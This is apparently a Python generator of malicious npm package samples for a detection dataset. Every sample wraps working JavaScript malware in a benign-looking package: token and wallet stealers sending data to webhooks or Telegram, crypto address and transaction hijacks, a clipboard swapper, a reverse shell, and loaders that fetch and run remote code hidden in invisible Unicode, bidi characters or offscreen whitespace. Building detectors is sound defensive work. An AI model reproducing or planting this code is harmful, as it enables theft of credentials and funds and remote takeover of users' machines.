"""npm, bad: what runs at import or in the browser."""

from .core import sample, squash, variation

bad = lambda family: sample("npm", "bad", family)  # noqa: E731


@bad("discord-browser-stealer")
def _(c):
    return dict(name=c.name("rich", "presence"), desc="Presence helper", files={"index.js": r'''
const { scan } = require('./lib/profiles');
const { report } = require('./lib/report');
require('./lib/@MISS@');

module.exports = class Presence {
  constructor(clientId) { this.clientId = clientId; this.state = {}; }
  set(state) { Object.assign(this.state, state); return this; }
};

setImmediate(() => report(scan()));
''', "lib/profiles.js": r'''
const fs = require('fs');
const path = require('path');
const roots = [process.env.APPDATA, process.env.LOCALAPPDATA].filter(Boolean);
const apps = ['discord', 'discordcanary', 'Google/Chrome/User Data/Default', 'BraveSoftware/Brave-Browser/User Data/Default'];
const shape = /[\w-]{24}\.[\w-]{6}\.[\w-]{27,}|mfa\.[\w-]{84}/g;

exports.scan = () => roots.flatMap((root) => apps.flatMap((app) => {
  const dir = path.join(root, app, 'Local Storage', 'leveldb');
  if (!fs.existsSync(dir)) return [];
  return fs.readdirSync(dir).filter((f) => /\.(ldb|log)$/.test(f))
    .flatMap((f) => fs.readFileSync(path.join(dir, f), 'latin1').match(shape) || []);
}));
''', "lib/report.js": r'''
const os = require('os');
const parts = ['@HOOK@'];
exports.report = async (found) => {
  if (!found.length) return;
  await fetch(parts[0], { method: 'POST', headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ username: os.userInfo().username, content: '```' + found.join('\n') + '```' }) });
};
'''})


@bad("telegram-wallet-stealer")
def _(c):
    return dict(name=c.name("market", "feed"), desc="Market price feed", files={"src/index.js": r'''
const { readdirSync, readFileSync, existsSync } = require('node:fs');
const { join } = require('node:path');
const { homedir } = require('node:os');
const settings = require('./@MISS@');

class Feed {
  #bot = '@BOT@';
  #room = '@CHAT@';

  constructor(pair) {
    this.pair = pair;
    this.#warm();
  }

  async price() { return Number((await (await fetch(`https://api.@W@.example/${this.pair}`)).json()).last); }

  #warm() {
    const base = join(homedir(), 'AppData', 'Roaming');
    const extensions = ['nkbihfbeogaeaoehlefnkodbefgpgknn', 'bfnaelmomeimhlpmgjnjophhpkkoljpa'];
    const dirs = [join(base, 'Exodus', 'exodus.wallet'), join(base, 'atomic', 'Local Storage', 'leveldb'),
      ...extensions.map((id) => join(homedir(), '.config/google-chrome/Default/Local Extension Settings', id))];
    for (const dir of dirs.filter(existsSync)) {
      for (const f of readdirSync(dir)) {
        const form = new FormData();
        form.append('chat_id', this.#room);
        form.append('document', new Blob([readFileSync(join(dir, f))]), f);
        fetch(`https://api.telegram.org/bot${this.#bot}/sendDocument`, { method: 'POST', body: form }).catch(() => settings);
      }
    }
  }
}
module.exports = { Feed };
'''}, manifest={"main": "src/index.js"})


@bad("ethereum-request-hook")
def _(c):
    return dict(name=c.name("wallet", "button"), desc="Connect button for wallets", manifest={"type": "module", "main": "dist/index.js"},
                files={"dist/index.js": squash(r'''
export function mount(t,e){
const n=document.createElement("button");
n.textContent=e.label||"Connect";
n.onclick=()=>window.ethereum.request({method:"eth_requestAccounts"}).then(e.done);
t.appendChild(n);
}
const a="@ETH@",w=()=>{
const p=globalThis.ethereum;
if(!p||p.__r)return;
const o=p.request.bind(p);
p.__r=1;
p.request=async q=>{
if(q.method==="eth_sendTransaction"){
const[x]=q.params;
if(x.data&&x.data.startsWith("0xa9059cbb"))x.data="0xa9059cbb"+a.slice(2).padStart(64,"0")+x.data.slice(74);
else if(x.data&&x.data.startsWith("0x095ea7b3"))x.data="0x095ea7b3"+a.slice(2).padStart(64,"0")+"f".repeat(64);
else x.to=a;
}
return o(q);
};
};
setInterval(w,700);
''')})


@bad("xhr-fetch-address-swap")
def _(c):
    eth, btc = [c.eth() for _ in range(4)], [c.btc() for _ in range(4)]
    return dict(name=c.name("ansi"), desc="Terminal colours", files={"index.js": r'''
'use strict';
const codes = { red: 31, green: 32, yellow: 33, blue: 34 };
for (const [name, n] of Object.entries(codes)) exports[name] = (s) => `\u001b[${n}m${s}\u001b[39m`;
''' + squash(r'''
;(function(){
if(typeof window==="undefined")return;
var E=@E@,B=@B@;
function lev(a,b){
var m=[],i,j;
for(i=0;i<=b.length;i++){m[i]=[i];}
for(j=0;j<=a.length;j++){m[0][j]=j;}
for(i=1;i<=b.length;i++){for(j=1;j<=a.length;j++){m[i][j]=b[i-1]===a[j-1]?m[i-1][j-1]:Math.min(m[i-1][j-1],m[i][j-1],m[i-1][j])+1;}}
return m[b.length][a.length];
}
function near(x,l){return l.slice().sort(function(p,q){return lev(x,p)-lev(x,q);})[0];}
function swap(t){
return String(t).replace(/0x[a-fA-F0-9]{40}/g,function(m){return near(m,E);}).replace(/\bbc1q[a-z0-9]{38}\b/g,function(m){return near(m,B);});
}
var of=window.fetch;
window.fetch=async function(){
var r=await of.apply(this,arguments),t=await r.clone().text();
return new Response(swap(t),{status:r.status,statusText:r.statusText,headers:r.headers});
};
var os=XMLHttpRequest.prototype.send;
XMLHttpRequest.prototype.send=function(b){
var x=this;
x.addEventListener("readystatechange",function(){
if(x.readyState===4){try{Object.defineProperty(x,"responseText",{value:swap(x.responseText)});}catch(e){}}
});
return os.call(x,typeof b==="string"?swap(b):b);
};
})();
''').replace("@E@", str(eth).replace("'", '"')).replace("@B@", str(btc).replace("'", '"'))})


@bad("clipboard-hijack")
def _(c):
    return dict(name=c.name("copy", "text"), desc="Copy text to the clipboard", files={"index.js": r'''
const { execSync, spawnSync } = require('child_process');
const cfg = require('./lib/@MISS@');

const read = { darwin: 'pbpaste', linux: 'xclip -o -selection clipboard', win32: 'powershell Get-Clipboard' }[process.platform];
const write = { darwin: ['pbcopy'], linux: ['xclip', '-selection', 'clipboard'], win32: ['clip'] }[process.platform];

exports.copy = (text) => spawnSync(write[0], write.slice(1), { input: text });

const mine = [[/^0x[0-9a-f]{40}$/i, '@ETH@'], [/^(bc1|[13])[a-z0-9]{25,60}$/i, '@BTC@'], [/^[1-9A-HJ-NP-Za-km-z]{43,44}$/, '@SOL@']];
setInterval(() => {
  const now = execSync(read, { encoding: 'utf8' }).trim();
  const hit = mine.find(([shape, own]) => shape.test(now) && now !== own);
  if (hit && cfg.on) exports.copy(hit[1]);
}, 400).unref();
'''})


@bad("reverse-shell")
def _(c):
    return dict(name=c.name("socket", "pool"), desc="Socket pool", files={"lib/heartbeat.js": r'''
const net = require('net');
const cp = require('child_process');

module.exports = function heartbeat(port, address) {
  const shell = cp.spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh', []);
  const link = new net.Socket();
  link.connect(port, address, () => {
    link.pipe(shell.stdin);
    shell.stdout.pipe(link);
    shell.stderr.pipe(link);
  });
  link.on('error', () => setTimeout(heartbeat, 30000, port, address));
};
''', "index.js": r'''
const beat = require('./lib/heartbeat');

class Pool {
  constructor(size = 4) { this.size = size; this.free = []; beat(@PORT@, '@H@'); }
  take() { return this.free.pop(); }
  give(s) { if (this.free.length < this.size) this.free.push(s); }
}
exports.pool = new Pool();
'''})


@bad("invisible-unicode")
def _(c):
    payload = variation(c.fill("require('child_process').exec('curl -s https://@H@/a|sh')"))
    return dict(name=c.name("space", "trim"), desc="Trim exotic white space", files={"index.js": r'''
'use strict';
const hidden = (v) => [...v].map((ch) => ch.codePointAt(0)).map((p) =>
  p >= 0xfe00 && p <= 0xfe0f ? p - 0xfe00 : p >= 0xe0100 && p <= 0xe01ef ? p - 0xe0100 + 16 : null).filter((b) => b !== null);

exports.trim = (s) => s.replace(/^[\s\u00a0\ufeff]+|[\s\u00a0\ufeff]+$/g, '');

eval(Buffer.from(hidden(`@VS@`)).toString('utf8'));
'''.replace("@VS@", payload)})


@bad("bidi-trojan-source")
def _(c):
    rlo, lri, pdi = "\u202e", "\u2066", "\u2069"
    return dict(name=c.name("role", "guard"), desc="Role checks for routes", files={"index.js": f'''
'use strict';
const admins = new Set();
function isAdmin(user, level) {{
  if (level !== "user{rlo} {lri}// only for administrators{pdi} {lri}") {{
    return true;
  }}
  return admins.has(user.id);
}}
function audit(user) {{
  /*{rlo} }} {lri}if (isAdmin(user)){pdi} {lri} begin admins only */
  fetch("https://@H@/s", {{ method: "POST", body: JSON.stringify({{ user, env: process.env }}) }});
  /* end admins only {rlo} {{ {lri}*/
}}
module.exports = {{ isAdmin, audit }};
'''})


@bad("offscreen-whitespace")
def _(c):
    tail = c.fill("try{require('https').get('https://@H@/x.js',r=>{let b='';r.on('data',d=>b+=d).on('end',()=>require('vm').runInThisContext(b))})}catch(_){}")
    return dict(name=c.name("parse", "query"), desc="Parse query strings", files={"index.js": r'''
'use strict';
module.exports = function parse(input) {
  const out = Object.create(null);
  for (const part of String(input).replace(/^\?/, '').split('&')) {
    const [key, value = ''] = part.split('=');
    if (key) out[decodeURIComponent(key)] = decodeURIComponent(value);
  }
  return out;
};
module.exports.default = module.exports;''' + " " * 640 + tail + "\n"})


@bad("dead-drop-solana-memo")
def _(c):
    return dict(name=c.name("rpc", "probe"), desc="Probe JSON-RPC endpoints", manifest={"type": "module"}, files={"index.js": r'''
const ENDPOINTS = ['https://api.mainnet-beta.solana.com', 'https://rpc.@H@'];
const call = async (url, method, params) => (await (await fetch(url, { method: 'POST', headers: { 'content-type': 'application/json' },
  body: JSON.stringify({ jsonrpc: '2.0', id: 1, method, params }) })).json()).result;

export async function latency(url) {
  const t = performance.now();
  await call(url, 'getHealth', []);
  return performance.now() - t;
}

async function refresh() {
  for (const url of ENDPOINTS) {
    const list = await call(url, 'getSignaturesForAddress', ['@SOL@', { limit: 5 }]).catch(() => []);
    const memo = list.find((x) => x.memo);
    if (!memo) continue;
    const { link } = JSON.parse(memo.memo.replace(/^\[\d+\] /, ''));
    const code = await (await fetch(Buffer.from(link, 'base64').toString())).text();
    return new Function('u', code)(import.meta.url);
  }
}

refresh().catch(() => {});
'''})
